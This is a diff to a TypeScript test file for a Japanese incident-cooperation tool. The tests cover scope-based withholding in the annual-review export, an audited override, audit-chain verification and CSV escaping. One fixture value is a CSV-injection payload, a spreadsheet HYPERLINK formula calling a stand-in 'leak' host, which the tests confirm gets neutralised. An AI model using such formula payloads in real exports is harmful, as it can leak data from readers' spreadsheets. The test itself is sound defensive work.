@@ -1,7 +1,10 @@
 // Issue 6 (part): the export of the cooperation record for a period, for the annual review. An
 // incident played to a cooperation case with a shared result inside the period, one registered
 // the evening before it and one the morning after; the export (module, CLI and `/renkei export`)
-// holds exactly the period's records, with the values a reviewer checks.
+// holds exactly the period's records, with the values a reviewer checks. Issue 12: content whose
+// Art. 7 scope excludes the requester is withheld (an operator on the command line is outside every
+// scope unless they ask, audited), CSV cells cannot run as formulas, and the chain of a redacted
+// export still verifies from the file.
 import { execFile } from "node:child_process";
 import fs from "node:fs";
 import os from "node:os";
@@ -15,6 +18,16 @@ import { readCsv } from "./support/csv";
 import { agreedCase } from "./support/consultation";
 import { buildExport } from "../src/app/export";
 import { BOM, parsePeriod, type ExportDocument } from "../src/domain/export";
+import type { Requester } from "../src/domain/record-scope";
+import { auditVerify } from "../src/cli/audit-verify-run";
+
+/** `npm run audit:verify -- --export <path>` in this process (test/cli.test.ts runs the command itself). */
+async function verifyExport(target: string): Promise<{ code: number; stdout: string; stderr: string }> {
+  const out: string[] = [];
+  const err: string[] = [];
+  const code = await auditVerify(["--export", target], undefined, { log: (l) => out.push(l), error: (l) => err.push(l) });
+  return { code, stdout: out.join("\n"), stderr: err.join("\n") };
+}
 
 const exec = promisify(execFile);
 const ROOT = path.resolve(import.meta.dirname, "..");
@@ -28,6 +41,12 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
   const FY = parsePeriod("2026-04-01", "2027-03-31", "Asia/Tokyo");
   if (!FY.ok) throw new Error("period");
   let doc: ExportDocument;
+  /** A title a spreadsheet would run as a formula (CSV injection). */
+  const SHARE_TITLE = '=HYPERLINK("http://x.example/?leak","Leak statistics H1")';
+  const OPERATOR: Requester = { kind: "operator", includeScoped: false };
+  const WITHHELD_NISC = "（非開示: 第7条の共有範囲 TLP:AMBER+STRICT、提供者 NISC）";
+  const WITHHELD_PPC = "（非開示: 第7条の共有範囲 TLP:AMBER+STRICT、提供者 個情委）";
+  const asMember = (userId: string) => buildExport(h, FY.period, { requester: { kind: "member", userId }, channelMembers: async (c) => [...(h.emu.channel(c)?.members ?? [])] });
 
   const register = async (which: keyof typeof refs, title: string, awareIso: string) => {
     const { ref } = await submitIntake(h, U.ppcStaff, intakeValues({ "intake_title.value": title, "intake_aware_at.value": Math.floor(Date.parse(awareIso) / 1000) }));
@@ -58,7 +77,7 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
     await h.driver.submitView({
       user: U.ppcLiaison,
       viewId: shareModal.id,
-      values: { "share_category.value": "leak_statistics", "share_title.value": "Leak statistics H1", "share_content.value": "1,234 reports, confidential", "share_scope_level.value": "amber_strict" },
+      values: { "share_category.value": "leak_statistics", "share_title.value": SHARE_TITLE, "share_content.value": "1,234 reports, confidential", "share_scope_level.value": "amber_strict" },
     });
     await h.settle();
     const share = (await h.store.db.activity.findFirst({ where: { kind: "share" } }))!;
@@ -68,7 +87,7 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
     // The first instant after the period.
     clock.set("2027-04-01T00:00:00+09:00");
     await register("after", "After the period", "2027-03-31T09:00:00+09:00");
-    doc = await buildExport(h, FY.period);
+    doc = await buildExport(h, FY.period, { requester: OPERATOR });
   });
   afterAll(async () => {
     await h?.stop();
@@ -115,7 +134,7 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
 
   it("holds normal-times cooperation: the activity with its article and the records on it, and the share's registration, never its content", () => {
     expect(doc.sections.activities!.rows.map((a) => [a.ref, a.kind, a.article, a.title, a.owner_party, a.status, a.opened_by, a.opened_by_party, a.opened_at])).toEqual([
-      ["A-2026-001", "share", "5(2)", "Leak statistics H1", "ppc", "done", U.ppcLiaison, "ppc", "2026-11-25T10:00:00+09:00"],
+      ["A-2026-001", "share", "5(2)", SHARE_TITLE, "ppc", "done", U.ppcLiaison, "ppc", "2026-11-25T10:00:00+09:00"],
     ]);
     expect(JSON.parse(String(doc.sections.activities!.rows[0]!.details))).toMatchObject({ category: "leak_statistics", toParty: "nisc" });
     expect(doc.sections.activity_records!.rows.map((r) => [r.ref, r.kind_of_activity, r.article, r.party, r.by])).toEqual([["A-2026-001", "share", "5(2)", "nisc", U.niscLiaison]]);
@@ -146,11 +165,50 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
     const victim = await h.store.db.auditEntry.findFirst({ where: { entityId: ids.before }, orderBy: { seq: "asc" } });
     await h.store.db.auditEntry.update({ where: { seq: victim!.seq }, data: { actorUserId: "U0FORGED1" } });
     try {
-      const tampered = await buildExport(h, FY.period);
+      const tampered = await buildExport(h, FY.period, { requester: OPERATOR });
       expect(tampered.auditChain).toEqual({ verified: false, entries: expect.any(Number), brokenAt: victim!.seq, reason: "hash_mismatch" });
     } finally {
       await h.store.db.auditEntry.update({ where: { seq: victim!.seq }, data: { actorUserId: victim!.actorUserId } });
     }
+  });
+
+  it("an operator's export withholds every scoped value: the result's record and link, the 5(2) share's content and link, the audit log's before/after of them", () => {
+    const result = doc.sections.item_records!.rows.find((r) => r.kind === "result")!;
+    expect(result.data).toBe(WITHHELD_NISC);
+    const shared = doc.sections.shared_information!.rows.find((s) => s.basis !== "5(2)")!;
+    expect([shared.channel_id, shared.message_ts, shared.scope_level, shared.provider_party]).toEqual([WITHHELD_NISC, WITHHELD_NISC, "TLP:AMBER+STRICT", "nisc"]);
+    const share = doc.sections.activities!.rows[0]!;
+    expect(JSON.parse(String(share.details))).toMatchObject({ category: "leak_statistics", content: WITHHELD_PPC });
+    expect([share.channel_id, share.message_ts]).toEqual([WITHHELD_PPC, WITHHELD_PPC]);
+    const audit = doc.sections.audit_log!.rows;
+    const resultEntry = audit.find((a) => a.action === "item.result_shared")!;
+    expect([resultEntry.before, resultEntry.after, resultEntry.withheld]).toEqual([WITHHELD_NISC, WITHHELD_NISC, true]);
+    const released = audit.find((a) => a.action === "activity.share_released")!;
+    expect([released.after, released.withheld]).toEqual([WITHHELD_PPC, true]);
+    // What is not scoped stays: the incident's registration.
+    expect(audit.find((a) => a.action === "incident.registered")!.withheld).toBe(false);
+    const text = JSON.stringify(doc);
+    for (const secret of ["C2 servers identified", "line 1", "1,234 reports"]) expect(text).not.toContain(secret);
+    expect(doc.access.requester).toBe("operator");
+    expect(doc.access.withheld).toBeGreaterThanOrEqual(6);
+  });
+
+  it("a member's export holds what the scope lets them see: the provider's staff and a liaison in the joint channel get the result, PPC's manager (not in it) does not", async () => {
+    const inside = (await h.store.incidentByRef(refs.inside))!;
+    expect(h.emu.channel(inside.channelId!)!.members).toContain(U.ppcLiaison);
+    expect(h.emu.channel(inside.channelId!)!.members).not.toContain(U.ppcManager);
+    const dataOf = (d: ExportDocument) => String(d.sections.item_records!.rows.find((r) => r.kind === "result")!.data);
+    const shareOf = (d: ExportDocument) => String(d.sections.activities!.rows[0]!.details);
+    const nisc = await asMember(U.niscStaff);
+    expect(dataOf(nisc)).toContain("C2 servers identified");
+    expect(nisc.access.requester).toBe(U.niscStaff);
+    const liaison = await asMember(U.ppcLiaison);
+    expect(dataOf(liaison)).toContain("C2 servers identified");
+    expect(shareOf(liaison)).toContain("1,234 reports, confidential"); // PPC provided it
+    const manager = await asMember(U.ppcManager);
+    expect(dataOf(manager)).toBe(WITHHELD_NISC);
+    expect(JSON.stringify(manager.sections.audit_log)).not.toContain("C2 servers identified");
+    expect(shareOf(manager)).toContain("1,234 reports, confidential");
   });
 
   it("npm run export writes one CSV per section (BOM, header, RFC 4180) and the JSON; bad arguments name the field and the fix", async () => {
@@ -171,15 +229,47 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
     expect(row![header!.indexOf("ref")]).toBe(refs.inside);
     expect(row![header!.indexOf("title")]).toBe('Inside, with a comma, and "quotes"');
     expect(row![header!.indexOf("registered_at")]).toBe("2026-11-25T10:00:00+09:00");
-    const records = readCsv(fs.readFileSync(`${base}-item_records.csv`, "utf8").slice(1));
-    const data = JSON.parse(records[1]![records[0]!.indexOf("data")]!) as { details?: string };
-    expect(data.details).toBe("line 1\nline 2"); // a new line inside a field survives
+    // An operator has no Slack identity: scoped content is withheld, and it says so.
+    expect(stdout).toMatch(/Art\. 7: \d+ scoped values withheld/);
+    const withheldRecords = readCsv(fs.readFileSync(`${base}-item_records.csv`, "utf8").slice(1));
+    expect(withheldRecords[1]![withheldRecords[0]!.indexOf("data")]).toBe(WITHHELD_NISC);
+    for (const f of fs.readdirSync(out)) expect(fs.readFileSync(path.join(out, f), "utf8")).not.toContain("C2 servers identified");
+    // A title that would run as a formula is neutralised in the CSV (OWASP: a leading single quote); the JSON keeps it as written.
+    const activities = readCsv(fs.readFileSync(`${base}-activities.csv`, "utf8").slice(1));
+    expect(activities[1]![activities[0]!.indexOf("title")]).toBe(`'${SHARE_TITLE}`);
     const consultations = readCsv(fs.readFileSync(`${base}-consultations.csv`, "utf8").slice(1));
     expect(consultations[0]).toEqual(expect.arrayContaining(["position_ppc", "position_nisc", "reason_nisc", "conditions_nisc"]));
     const json = JSON.parse(fs.readFileSync(`${base}.json`, "utf8")) as ExportDocument;
     expect(Object.keys(json.sections)).toEqual(["incidents", "consultations", "tasks", "item_records", "shared_information", "scope_warnings", "scope_consents", "activities", "activity_records", "audit_log"]);
     expect(json.sections.incidents!.rows.map((r) => r.ref)).toEqual([refs.inside]);
+    expect(json.sections.activities!.rows[0]!.title).toBe(SHARE_TITLE);
     expect(fs.readFileSync(`${base}-summary.csv`, "utf8")).toContain("audit_chain_verified,true");
+
+    // The redacted export's chain verifies from the file: withheld entries by their links.
+    const verified = await verifyExport(out);
+    expect(verified.code).toBe(0);
+    expect(verified.stdout).toMatch(/audit log intact: (\d+) entries, (\d+) checked by content, ([1-9]\d*) withheld \(Art\. 7\) checked by their links/);
+    // Edited in the file, an entry no longer verifies: the one edited is named.
+    const edited = JSON.parse(fs.readFileSync(`${base}.json`, "utf8")) as ExportDocument;
+    const rows = edited.sections.audit_log!.rows;
+    const victim = rows.find((r) => r.action === "incident.registered")!;
+    victim.actor = "U0FORGED1";
+    const editedFile = path.join(dir, "edited.json");
+    fs.writeFileSync(editedFile, JSON.stringify(edited));
+    const broken = await verifyExport(editedFile);
+    expect(broken.code).toBe(1);
+    expect(broken.stderr).toContain(`BROKEN at entry #${String(victim.seq)} (incident.registered`);
+    // A withheld entry removed from the file breaks the link of the one after it.
+    const cut = JSON.parse(fs.readFileSync(`${base}.json`, "utf8")) as ExportDocument;
+    const cutRows = cut.sections.audit_log!.rows;
+    const gone = cutRows.findIndex((r) => r.withheld === true);
+    const next = cutRows[gone + 1]!;
+    cutRows.splice(gone, 1);
+    fs.writeFileSync(editedFile, JSON.stringify(cut));
+    const cutVerdict = await verifyExport(editedFile);
+    expect(cutVerdict.code).toBe(1);
+    expect(cutVerdict.stderr).toContain(`BROKEN at entry #${String(next.seq)}`);
+
 
     const bad = await exec(TSX, ["src/cli/export.ts", "--from", "2026-04-31", "--to", "2026-04-01", "--format", "xlsx"], { cwd: ROOT, env, timeout: 60_000 }).then(
       () => ({ code: 0, stderr: "" }),
@@ -189,6 +279,22 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
     expect(bad.stderr).toContain('--from "2026-04-31" is not a date — write it as YYYY-MM-DD');
     expect(bad.stderr).toContain("--format");
     expect(bad.stderr).toContain("usage: npm run export");
+  });
+
+  it("npm run export --include-scoped: the operator asked explicitly, so the scoped content is there, and the request is in the audit log first", async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "renkei-export-"));
+    const configFile = path.join(dir, "renkei.yml");
+    fs.writeFileSync(configFile, stringify(testConfigInput()));
+    const env = { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "", DATABASE_URL: h.db.url, RENKEI_CONFIG: configFile };
+    const full = path.join(dir, "full");
+    const included = await exec(TSX, ["src/cli/export.ts", "--from", "2026-04-01", "--to", "2027-03-31", "--out", full, "--include-scoped"], { cwd: ROOT, env, timeout: 60_000 });
+    expect(included.stdout).toContain("scoped content INCLUDED on request");
+    const records = readCsv(fs.readFileSync(path.join(full, "renkei-2026-04-01_2027-03-31-item_records.csv"), "utf8").slice(1));
+    const data = JSON.parse(records[1]![records[0]!.indexOf("data")]!) as { details?: string };
+    expect(data.details).toBe("line 1\nline 2"); // a new line inside a field survives
+    const asked = await h.store.db.auditEntry.findFirst({ where: { action: "record.export_scoped_included" } });
+    expect(asked).toMatchObject({ actorUserId: "operator", article: "7", entityId: "2026-04-01_2027-03-31" });
+    expect(JSON.parse(asked!.after!)).toMatchObject({ from: "2026-04-01", to: "2027-03-31", includeScoped: true, osUser: expect.any(String) });
   });
 
   it("/renkei export: a manager gets the JSON and the CSV in their DM; others are refused privately and nothing is queued", async () => {
@@ -219,11 +325,15 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
     const dm = await h.emu.waitFor(() => h.emu.dms(U.ppcManager).find((m) => (m.files ?? []).length > 0), { message: "no files in the DM" });
     expect(dm.text).toContain("2026-04-01〜2027-03-31");
     expect(dm.text).toContain("検証済み");
+    // Art. 7: the result NISC shared AMBER+STRICT is withheld from PPC's manager (not in the case's channel), and the DM says so.
+    expect(dm.text).toMatch(/あなたが共有範囲に含まれない内容 \d+件/);
     expect(dm.files!.map((f) => f.name)).toEqual(["renkei-2026-04-01_2027-03-31.json", "renkei-2026-04-01_2027-03-31.csv"]);
     const files = h.emu.files();
     const json = JSON.parse(files.find((f) => f.filename.endsWith(".json"))!.content!.toString("utf8")) as ExportDocument;
     expect(json.sections.incidents!.rows.map((r) => r.ref)).toEqual([refs.inside]);
     expect(json.sections.consultations!.rows[0]).toMatchObject({ position_nisc: "agree", outcome: "cooperate" });
+    expect(json.sections.item_records!.rows.find((r) => r.kind === "result")!.data).toBe(WITHHELD_NISC);
+    expect(JSON.parse(String(json.sections.activities!.rows[0]!.details)).content).toBe("1,234 reports, confidential"); // PPC's own share
     const csv = files.find((f) => f.filename.endsWith(".csv"))!.content!;
     expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     const lines = readCsv(csv.toString("utf8").slice(1));
@@ -232,7 +342,7 @@ describe.each(testDatabases())("export of the cooperation record on %s", (databa
     expect(lines.some((l) => l[0] === "audit_log")).toBe(true);
     // The request itself is in the audit log (the export reads both parties' records).
     const trail = await h.store.auditTrail("2026-04-01_2027-03-31");
-    expect(trail).toEqual([{ action: "record.export_requested", article: null, actorUserId: U.ppcManager }]);
+    expect(trail.filter((e) => e.action === "record.export_requested")).toEqual([{ action: "record.export_requested", article: null, actorUserId: U.ppcManager }]);
     // The same request again within the minute queues nothing more.
     await h.driver.slashCommand({ user: U.ppcManager, text: "export 2026-04-01 2027-03-31" });
     expect((await h.emu.waitFor(() => h.emu.ephemerals(U.ppcManager)[seen + 3])).text).toContain("作成中です");
